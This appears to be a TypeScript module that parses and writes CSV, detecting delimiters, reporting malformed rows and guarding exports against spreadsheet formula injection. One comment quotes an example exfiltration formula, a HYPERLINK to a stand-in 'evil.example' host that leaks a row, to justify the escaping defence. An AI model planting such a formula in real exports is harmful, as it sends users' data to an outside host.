// RFC 4180 CSV in one pass over char codes: quotes, doubled quotes, embedded newlines, Excel's ';'
// in Cyrillic locales, and legacy encodings. A broken row is reported; the rest still parse.
import { importNote, type ImportBecause } from '../import-reason.ts';
import { decodeBytes } from './charset.ts';

export type CsvDelimiter = ',' | ';' | '\t';

export interface CsvRow {
  /** 1-based physical line where the row starts. */
  line: number;
  cells: string[];
}

export interface CsvProblem {
  line: number;
  reason: string;
  /** The same reason as a code and figures (without the line, which `line` holds). */
  because?: ImportBecause;
}

export interface ParsedCsv {
  header: string[];
  rows: CsvRow[];
  problems: CsvProblem[];
  delimiter: CsvDelimiter;
  encoding: string;
}

export interface CsvOptions {
  delimiter?: CsvDelimiter;
  encoding?: string;
  /** Called as the text is read: characters done of the total (for a progress bar). */
  onProgress?: (done: number, total: number) => void;
}

/** How many characters pass between two progress reports. */
const PROGRESS_STEP = 1 << 20;

const QUOTE = 34;
const LF = 10;
const CR = 13;
// A quoted cell longer than this many lines is almost surely a stray quote eating the next rows.
const MAX_QUOTED_LINES = 200;

/** Picks the delimiter that splits the first lines most consistently. */
export function detectDelimiter(text: string): CsvDelimiter {
  const lines = text
    .slice(0, 64 * 1024)
    .split(/\r?\n/, 21)
    .filter((l) => l.trim() !== '')
    .slice(0, 20);
  let best: CsvDelimiter = ',';
  let bestScore = -1;
  for (const d of [',', ';', '\t'] as const) {
    const counts = lines.map((l) => countOutsideQuotes(l, d));
    const first = counts[0] ?? 0;
    if (first === 0) continue;
    const consistent = counts.filter((c) => c === first).length;
    const score = consistent * 1000 + first;
    if (score > bestScore) {
      best = d;
      bestScore = score;
    }
  }
  return best;
}

function countOutsideQuotes(line: string, d: string): number {
  let n = 0;
  let quoted = false;
  for (const ch of line) {
    if (ch === '"') quoted = !quoted;
    else if (ch === d && !quoted) n++;
  }
  return n;
}

/** Parses CSV text or bytes; the first row is the header. */
export function parseCsv(input: string | Uint8Array, options: CsvOptions = {}): ParsedCsv {
  const decoded =
    typeof input === 'string' ? { text: input, encoding: 'utf-8' } : decodeBytes(input, options.encoding);
  const text = decoded.text.charCodeAt(0) === 0xfeff ? decoded.text.slice(1) : decoded.text;
  const delimiter = options.delimiter ?? detectDelimiter(text);
  const { rows, problems } = parseRows(text, delimiter.charCodeAt(0), options.onProgress);
  // Blank lines carry no data; Excel adds them at the end.
  const nonEmpty = rows.filter((r) => !(r.cells.length === 1 && r.cells[0] === ''));
  const [headerRow, ...data] = nonEmpty;
  const header = (headerRow?.cells ?? []).map((h) => h.trim());
  // Lines that already have a problem, looked up per row in constant time (a file whose every row is broken
  // must not cost rows × problems).
  const reported = new Set(problems.map((p) => p.line));
  for (const row of data) {
    if (row.cells.length !== header.length && !reported.has(row.line)) {
      const reason = `Line ${row.line}: ${row.cells.length} cells where the header has ${header.length}; check for a missing or extra '${delimiter === '\t' ? 'tab' : delimiter}'`;
      const figures = { count: row.cells.length, expected: header.length };
      problems.push({
        line: row.line,
        ...(delimiter === '\t'
          ? importNote(reason, 'csv.cellsTab', figures)
          : importNote(reason, 'csv.cells', { ...figures, delimiter })),
      });
    }
  }
  // A UTF-8 file with a few broken bytes is read as UTF-8; each line that held one is named.
  for (const line of decoded.replaced?.lines ?? [])
    problems.push({
      line,
      ...importNote(
        `Line ${line}: a byte here is not valid UTF-8 and shows as �; the rest of the file is UTF-8 and was read as such`,
        'file.badBytes',
      ),
    });
  problems.sort((a, b) => a.line - b.line);
  return { header, rows: data, problems, delimiter, encoding: decoded.encoding };
}

function parseRows(
  text: string,
  delim: number,
  onProgress?: (done: number, total: number) => void,
): { rows: CsvRow[]; problems: CsvProblem[] } {
  const rows: CsvRow[] = [];
  const problems: CsvProblem[] = [];
  const n = text.length;
  let pos = 0;
  let line = 1;
  let nextReport = PROGRESS_STEP;
  while (pos < n) {
    if (onProgress && pos >= nextReport) {
      onProgress(pos, n);
      nextReport = pos + PROGRESS_STEP;
    }
    const rowLine = line;
    const rowStart = pos;
    const cells: string[] = [];
    for (;;) {
      if (text.charCodeAt(pos) === QUOTE) {
        // Quoted cell: find the closing quote, un-doubling "" on the way.
        let value = '';
        let from = pos + 1;
        let cellLines = 0;
        let closed = false;
        for (;;) {
          const q = text.indexOf('"', from);
          const chunkEnd = q < 0 ? n : q;
          // Counting stops past the limit: a stray quote before 10M lines costs the limit, not the file.
          for (let i = from; i < chunkEnd && cellLines <= MAX_QUOTED_LINES; i++)
            if (text.charCodeAt(i) === LF) cellLines++;
          if (q < 0 || cellLines > MAX_QUOTED_LINES) break;
          value += text.slice(from, q);
          if (text.charCodeAt(q + 1) === QUOTE) {
            value += '"';
            from = q + 2;
            continue;
          }
          from = q + 1;
          closed = true;
          break;
        }
        if (!closed) {
          // Treat the stray quote as text up to the end of its line and carry on with the next row.
          problems.push({
            line: rowLine,
            ...importNote(`Line ${rowLine}: a quote opened in this row is never closed`, 'csv.quote'),
          });
          const eol = text.indexOf('\n', pos);
          const end = eol < 0 ? n : eol;
          cells.push(text.slice(pos, text.charCodeAt(end - 1) === CR ? end - 1 : end));
          pos = eol < 0 ? n : eol + 1;
          line = rowLine + 1;
          break;
        }
        line += cellLines;
        // Text after the closing quote (`"abc"def`) is kept, as Excel does.
        let after = from;
        while (
          after < n &&
          text.charCodeAt(after) !== delim &&
          text.charCodeAt(after) !== LF &&
          text.charCodeAt(after) !== CR
        )
          after++;
        cells.push(value + text.slice(from, after));
        pos = after;
      } else {
        let end = pos;
        while (end < n) {
          const c = text.charCodeAt(end);
          if (c === delim || c === LF || c === CR) break;
          end++;
        }
        cells.push(text.slice(pos, end));
        pos = end;
      }
      const c = text.charCodeAt(pos);
      if (c === delim) {
        pos++;
        continue;
      }
      if (c === CR) pos++;
      if (text.charCodeAt(pos) === LF) pos++;
      line++;
      break;
    }
    if (pos === rowStart) pos++; // never loop without progress
    rows.push({ line: rowLine, cells });
  }
  return { rows, problems };
}

// A spreadsheet reads a cell that starts with = + - @ (or their fullwidth forms, which Excel folds), a tab or a CR as
// a formula: `-1+HYPERLINK("https://evil.example/?"&B2,"Open")` becomes a live link that leaks the row. OWASP
// "CSV Injection": https://owasp.org/www-community/attacks/CSV_Injection — prefix such cells with an apostrophe.
const FORMULA_START = /^[\s\u00a0]*[=+\-@\uff1d\uff0b\uff0d\uff20\t\r]/u;
// A plain number (-12, 3.5, 1 000,25) or one phone number (+380 67 123 45 67, +1 (555) 010-0199) is left alone.
const PLAIN_NUMBER = /^[+-]?\d[\d\u00a0 ]*(?:[.,]\d+)?$/u;
// Only digits, spaces, brackets and dashes after the +: nothing a spreadsheet could call. No nested quantifier, so
// a long hostile cell is checked in linear time.
const PHONE = /^\+\d[\d ()-]*$/u;

/** A cell as it may be written into any CSV Kartka produces: never a formula a spreadsheet would run. */
export function spreadsheetSafe(value: string): string {
  if (!FORMULA_START.test(value) || PLAIN_NUMBER.test(value) || PHONE.test(value)) return value;
  return `'${value}`;
}

function quoteCell(value: string, delimiter: string): string {
  if (
    value.includes('"') ||
    value.includes(delimiter) ||
    value.includes('\n') ||
    value.includes('\r') ||
    /^\s|\s$/.test(value)
  ) {
    return `"${value.replace(/"/g, '""')}"`;
  }
  return value;
}

/** Writes rows as CSV with CRLF line ends; `bom` helps Excel open UTF-8 Cyrillic correctly. */
export function toCsv(
  rows: readonly (readonly string[])[],
  options: { delimiter?: CsvDelimiter; bom?: boolean } = {},
): string {
  const delimiter = options.delimiter ?? ',';
  const body = rows
    .map((r) => r.map((cell) => quoteCell(spreadsheetSafe(cell), delimiter)).join(delimiter))
    .join('\r\n');
  return `${options.bom ? '\ufeff' : ''}${body}\r\n`;
}
